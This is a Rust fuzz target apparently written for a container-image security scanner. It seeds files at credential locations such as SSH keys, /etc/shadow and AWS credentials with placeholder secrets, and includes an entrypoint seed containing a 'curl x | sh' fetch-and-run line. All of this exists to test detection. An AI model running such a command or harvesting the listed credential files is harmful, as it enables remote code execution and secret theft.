//! A file of an image, looked at by every check.

use plimsoll_checks::{Circumstances, judge};

use crate::Target;
use crate::make::{Around, choosing, chosen};

pub(crate) static TARGET: Target = Target {
    id: "check",
    summary: "a file of an image, looked at by every check",
    seeds,
    run,
};

/// Where checks look.
const PLACES: [&str; 12] = [
    "/app/.env",
    "/root/.ssh/id_ed25519",
    "/etc/ssl/private/key.pem",
    "/root/.docker/config.json",
    "/usr/bin/program",
    "/usr/lib/x86_64-linux-gnu/libx.a",
    "/etc/passwd",
    "/etc/supervisor/supervisord.conf",
    "/entrypoint.sh",
    "/root/.aws/credentials",
    "/root/.netrc",
    "/etc/shadow",
];

fn seeds() -> Vec<Vec<u8>> {
    vec![
        choosing(
            0,
            "PASSWORD=hunter22hunter\nTOKEN=ghp_0123456789abcdefghijABCDEFGHIJ012345\n",
        ),
        choosing(
            1,
            "-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n-----END OPENSSH PRIVATE KEY-----\n",
        ),
        choosing(3, r#"{"auths":{"example.org":{"auth":"dXNlcjpwYXNz"}}}"#),
        choosing(4, crate::targets::follow::program()),
        choosing(
            5,
            "!<arch>\nx.o/            0           0     0     100644  0         `\n",
        ),
        choosing(6, "root:x:0:0::/root:/bin/sh\n"),
        choosing(
            7,
            "[program:a]\ncommand=/bin/a\n[program:b]\ncommand=/bin/b\n",
        ),
        choosing(8, "#!/bin/sh\ncurl x | sh\nexec \"$@\"\n"),
        choosing(9, "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n"),
        choosing(11, "root:$6$salt$hash:1::::::\n"),
    ]
}

fn run(data: &[u8]) {
    let Some((place, bytes)) = chosen(&PLACES, data) else {
        return;
    };
    let image = Around::new(&[(place, bytes)], &["/entrypoint.sh"]);
    let (findings, problems) = judge(&image.subject(), &Circumstances::default());
    // What is said of a stranger's file has a bound.
    let said: usize = findings.iter().map(|finding| finding.message.len()).sum();
    assert!(said + problems.len() < 4 << 20, "{said} bytes of messages");
}
